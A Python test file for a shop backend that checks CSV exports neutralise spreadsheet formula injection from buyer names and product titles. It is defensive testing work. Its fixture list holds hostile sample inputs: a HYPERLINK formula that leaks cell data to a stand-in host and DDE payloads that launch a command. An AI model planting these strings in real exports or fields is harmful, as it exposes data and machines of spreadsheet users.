"""Formulas typed into the shop come out of every CSV export as text, never as something the owner's
spreadsheet runs (issue 29, finding 1): a shopper who checks out as `=HYPERLINK(...)` and pays, a
product titled `@SUM(...)`. Each export's cells either start with no formula character or are a
plain number (a credit note's `-899.00`), and the formula itself is still readable after the
apostrophe."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from khadi.accounts.models import User
from khadi.invoices.issue import issue_for_order
from khadi.kit.time import utcnow
from khadi.tax.dates import ist_date
from tests.factories import make_order, make_product
from tests.invoices.support import register_shop

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&B2,"Refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _assert_inert(text: str, typed: str) -> None:
    cells = _cells(text)
    for cell in cells:
        assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), repr(cell)
    assert "'" + typed in cells, (typed, cells)


@pytest.mark.parametrize("formula", FORMULAS, ids=range(len(FORMULAS)))
def test_a_formula_in_a_buyer_name_or_a_title_is_exported_as_text(
    formula: str,
    admin_client: TestClient,
    db_session: Session,
    make_user: Callable[..., User],
) -> None:
    register_shop(db_session)
    order = make_order(db_session, make_user().id, shipping_name=formula)
    issue_for_order(db_session, order, now=utcnow())
    make_product(db_session, title=formula, description=formula)
    db_session.commit()
    # the owner picks IST days: after 18:30 UTC it is tomorrow
    today = ist_date(utcnow()).isoformat()

    for name in ("sales", "gstr1-b2c", "hsn"):
        response = admin_client.get(
            f"/api/v1/admin/exports/{name}.csv", params={"from": today, "to": today}
        )
        assert response.status_code == 200, response.text
        for cell in _cells(response.text):
            assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), repr(cell)
    sales = admin_client.get("/api/v1/admin/exports/sales.csv", params={"from": today, "to": today})
    _assert_inert(sales.text, formula)
    products = admin_client.get("/api/v1/admin/products.csv")
    assert products.status_code == 200
    _assert_inert(products.text, formula)
